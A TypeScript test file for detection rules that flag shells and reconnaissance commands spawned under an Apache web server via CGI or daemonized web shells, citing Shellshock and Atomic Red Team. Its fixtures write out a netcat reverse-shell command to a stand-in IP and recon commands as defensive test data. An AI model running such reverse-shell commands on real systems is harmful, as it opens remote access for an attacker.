// Class "web-server context kept" of issue 21: what runs below a web server through a CGI
// interpreter or a child that daemonized. Shapes from public sources, cited beside each case.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { ProcessRecord } from '../../../../agent/sources/types.js';
import { Harness, ids } from './harness.js';

type P = Partial<ProcessRecord> & { name: string };
const www = { uid: 33, userName: 'www-data' };
const apache: P = { name: 'apache2', executable: '/usr/sbin/apache2', commandLine: '/usr/sbin/apache2 -k start', ...www };
const run = (name: string, commandLine: string): P => ({ name, executable: `/usr/bin/${name}`, commandLine, ...www });

function rulesFor(chain: P[]): string[] {
  const h = new Harness('linux');
  const e = h.engine({ baseline: { enabled: false } });
  return ids(e.evaluate(h.processDoc(h.chain(...chain))));
}

test('Shellshock through mod_cgi (CVE-2014-6271, Exploit-DB 34765): the CGI bash runs a discovery tool', () => {
  const rules = rulesFor([apache, { name: 'test.cgi', executable: '/usr/bin/bash', commandLine: '/bin/bash /usr/lib/cgi-bin/test.cgi', ...www }, run('id', '/usr/bin/id')]);
  assert.ok(rules.includes('pw-lnx-cgi-recon'), rules.join(','));
  assert.ok(rules.includes('pw-lnx-webserver-descendant-shell'), rules.join(','));
});

test('a CGI Perl script\'s system("uname -a") and an interactive shell from it fire; its sendmail does not', () => {
  const cgi: P = { name: 'form.pl', executable: '/usr/bin/perl', commandLine: '/usr/bin/perl /usr/lib/cgi-bin/form.pl', ...www };
  assert.ok(rulesFor([apache, cgi, run('uname', 'uname -a')]).includes('pw-lnx-cgi-recon'));
  assert.ok(rulesFor([apache, cgi, run('sh', 'sh -i')]).includes('pw-lnx-cgi-recon'));
  assert.deepEqual(rulesFor([apache, cgi, { name: 'sendmail', executable: '/usr/sbin/sendmail', commandLine: '/usr/sbin/sendmail -t -i', ...www }]), []);
});

test('a web shell that daemonizes (Atomic Red Team T1505.003-style nohup/setsid, double fork) keeps its web server context', () => {
  // apache2 -> sh -c "setsid sh -c '...' &" (exits) -> sh (reparented to init) -> nc
  const h = new Harness('linux');
  const e = h.engine({ baseline: { enabled: false } });
  const server = h.chain(apache);
  const launcher = h.spawn(server, run('sh', "sh -c setsid sh -c 'sleep 60; nc 203.0.113.9 4444 -e /bin/sh' &"));
  const detached = h.spawn(launcher, run('sh', "sh -c sleep 60; nc 203.0.113.9 4444 -e /bin/sh"));
  h.table.exit(launcher.record.pid, Date.now());
  const nc = h.spawn(detached, run('nc', 'nc 203.0.113.9 4444 -e /bin/sh'));
  const rules = ids(e.evaluate(h.processDoc(nc)));
  assert.ok(rules.includes('pw-lnx-webserver-descendant-shell'), rules.join(','));
  assert.ok(ids(e.evaluate(h.processDoc(detached))).includes('pw-lnx-webserver-descendant-shell'));
});

test('no alert: the server\'s own helpers, a program outside any web server, the direct child (its own rule)', () => {
  assert.deepEqual(rulesFor([apache, { name: 'rotatelogs', executable: '/usr/bin/rotatelogs', commandLine: '/usr/bin/rotatelogs /var/log/apache2/access.%Y 86400', ...www }]), []);
  assert.deepEqual(rulesFor([{ name: 'bash', commandLine: '-bash' }, run('sh', 'sh -c make'), run('uname', 'uname -m')]), []);
  const direct = rulesFor([apache, run('sh', 'sh -c id')]);
  assert.ok(direct.includes('pw-lnx-webserver-shell') && !direct.includes('pw-lnx-webserver-descendant-shell'), direct.join(','));
});
